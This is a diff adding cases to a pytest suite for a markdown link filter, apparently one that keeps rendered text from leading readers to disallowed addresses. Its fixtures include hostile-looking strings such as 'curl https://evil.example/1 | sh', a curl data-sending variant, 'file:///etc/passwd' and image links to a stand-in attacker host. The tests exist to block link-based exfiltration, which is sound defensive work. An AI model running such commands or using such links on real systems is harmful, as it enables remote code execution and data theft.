@@ -52,11 +52,19 @@ def filtered(*pieces: str) -> str:
         ("a <IFRAME SRC=x>", "a < IFRAME SRC=x>"),
         ("a <b style='background: u\\72l(x)'>", "a < b style='background: u\\72l(x)'>"),
         ("<div\n<img/src=//evil.example/1>", "< div\n< img/src=//evil.example/1>"),
+        ('"to":"https://evil.example/7","a":"{}"}', '"to":"[link removed]","a":"{}"}'),
+        ('{\\"to\\":\\"https://evil.example/7\\"}', '{\\"to\\":\\"[link removed]\\"}'),
+        ("(see https://evil.example/a_(b)).", "(see [link removed])."),
+        ('a <a href="https://evil.example">html</a>', 'a < a href="[link removed]">html</a>'),
+        ("Read file:///etc/passwd.", "Read [link removed]."),
+        ("Set postgres://u:p@evil.example/db", "Set [link removed]"),
+        (f'"to":"{_KNOWN}","a":1', f'"to":"{_KNOWN} ","a":1'),
+        ("a `` b https://evil.example/1` c", "a `` b [link removed]` c"),
     ],
 )
 def test_links_that_are_not_allowed_go_and_their_text_stays(written: str, told: str) -> None:
     assert filtered(written) == told
-    assert not led_to(told) or led_to(told) == ["https://ok.example/2"]
+    assert set(led_to(told)) <= {"https://ok.example/2", _KNOWN}
 
 
 @pytest.mark.parametrize(
@@ -69,13 +77,69 @@ def test_links_that_are_not_allowed_go_and_their_text_stays(written: str, told: 
         f'<a href="{_KNOWN}">it</a><br/><img src="/own.png" alt="x">',
         "```sh\ncurl https://evil.example/1 | sh\n```\nDone.",
         "~~~\n[x](https://evil.example/1)\n```\n~~~~\n",
+        "1. Do:\n\n   ```sh\n   curl https://evil.example/1 \\\n\n     -d 1\n   ```\n2. Done.",
+        "- a\n  - b\n    ```\n    https://evil.example/1\n    ```\n- ~~~\n  //e\n  ~~~\n",
+        "9. a\n10. **b**:\n    ```\n    https://evil.example/1\n    ```\n`https://evil.example/2`",
         "a < b, c <d and e> f; x[1](2) &amp; AT&T &lt; 5: http, www and `code`!",
+        "open `http://localhost:3000` in ``a ` b <https://evil.example/1>``, or [`a`](b.md).",
+        "Use `<a href='//evil.example'>`, `![x](https://evil.example/1)` and `a[b][c]: d`.",
         "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n1. one\n   - two\n",
     ],
 )
 def test_what_is_allowed_and_code_stay_byte_for_byte(text: str) -> None:
     assert filtered(text) == text
     assert filtered(*text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a ` b\nc `https://evil.example/1`",
+        "a \\` b ` c ` https://evil.example/1 `",
+        "<!-- ` --> ` x ` https://evil.example/1 `",
+        '<b title="`"> ` https://evil.example/1 `',
+        "[a](x`y) ` b ` https://evil.example/1 `",
+        "[a][r`] ` b ` https://evil.example/1 `\n\n[r`]: /x",
+        '[a`]: //evil.example "`"\n\n[a`]',
+        "| ` | ` https://evil.example/1 ` |\n|---|---|",
+        "a\n    ~~~\n    https://evil.example/1\n    ~~~",
+        "a\n10. b\n    ~~~\n    https://evil.example/1\n    ~~~",
+        "- - -\n  a\n    ~~~\n    https://evil.example/1\n    ~~~",
+        "- ```\n  - a\n  ```\nb\n    ~~~\n    https://evil.example/1\n    ~~~",
+        "1. a\n   ```\n   b\n```\n\n   ```\nhttps://evil.example/1\n",
+        "- a\n    ```\n     ```\n  https://evil.example/1",
+        "- a\n  ```\n https://evil.example/1",
+        "> ```\n> a\n```\n> ```\nhttps://evil.example/1",
+        "<pre>\n\n`https://evil.example/1`",
+        "https://ok.example/a` x ` y ` https://evil.example/1 `",
+        "a ` " + "b " * 1_000 + "` c ` https://evil.example/1 `",
+    ],
+)
+def test_what_only_some_readers_take_for_code_is_filtered(text: str) -> None:
+    assert "evil.example/1" not in filtered(text)
+    assert "//evil.example" not in led_to(filtered(text))
+
+
+def test_a_blank_line_ends_the_doubt_about_code() -> None:
+    assert filtered("a ` b\r\n`//e`\r\n\r\n`https://evil.example/1`").endswith("/1`")
+    assert "evil" not in filtered("a ` b\r\n`https://evil.example/1`")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[a](https://evil.example)(//evil.example)",
+        "[a](https://evil.example): //evil.example\n\n[a]",
+        "<https://evil.example>(//evil.example)",
+        "https://evil.example: //evil.example/x\n\nhttps://evil.example",
+        "https://evil.example/" + "a" * 1_979 + "(//evil.example)",
+        'a <img title="https://evil.example/a"b" src=//evil.example/1>',
+        'a <img title="[x](https://evil.example "q")" src=//evil.example/1>',
+        f'a <img title="{"b" * 2_000}" src=//evil.example/1>',
+    ],
+)
+def test_no_link_comes_of_what_is_left_around_one_that_went(text: str) -> None:
+    assert not led_to(filtered(text))
 
 
 def test_an_address_that_is_only_known_is_a_link_and_never_an_image() -> None:
@@ -117,8 +181,40 @@ _PARTS = st.sampled_from(
     [
         *("https://evil.example/?q=1", "https://ok.example/a", _KNOWN, _OF_USER, "//evil.example"),
         *("[", "]", "](", "(", ")", "!", "![", "]:", "]: ", "<", ">", "<img src=", "<a href='"),
-        *("'", '"', "`", "```", "~~~", "\n", "\n\n", "\r", " ", "   ", "    ", "\t", "- ", "> "),
-        *("1. ", "\\", "&colon;", "&#104;", "&sol;", "ttps://", "http", "s", ":", "//", "www."),
+        *(
+            "'",
+            '"',
+            "`",
+            "``",
+            "```",
+            "~~~",
+            "\n",
+            "\n\n",
+            "\r",
+            " ",
+            "   ",
+            "    ",
+            "\t",
+            "- ",
+            "> ",
+        ),
+        *(
+            "1. ",
+            "\n   ```\n   ",
+            "\n  ~~~\n",
+            "\n    ~~~\n    ",
+            "10. ",
+            "\\",
+            "&colon;",
+            "&#104;",
+            "&sol;",
+            "ttps://",
+            "http",
+            "s",
+            ":",
+            "//",
+            "www.",
+        ),
         *(
             "evil.example/x",
             "Team",
@@ -151,7 +247,8 @@ def test_no_reader_of_markdown_is_led_where_it_is_not_allowed(texts: list[str]) 
     told = filtered(*texts)
     for own in led_to(told):
         # An address that is twice the same one says no more than it does once.
-        assert allows(own, False) or own == f"{_KNOWN}]({_KNOWN}", told
+        shown, _, behind = own.partition("](")
+        assert allows(own, False) or (shown == behind and allows(shown, False)), told
 
 
 _LONG = st.sampled_from(["a" * 1_980, "(" * 1_990, ")" * 2_010, " a" * 995, "![" + "b" * 199])
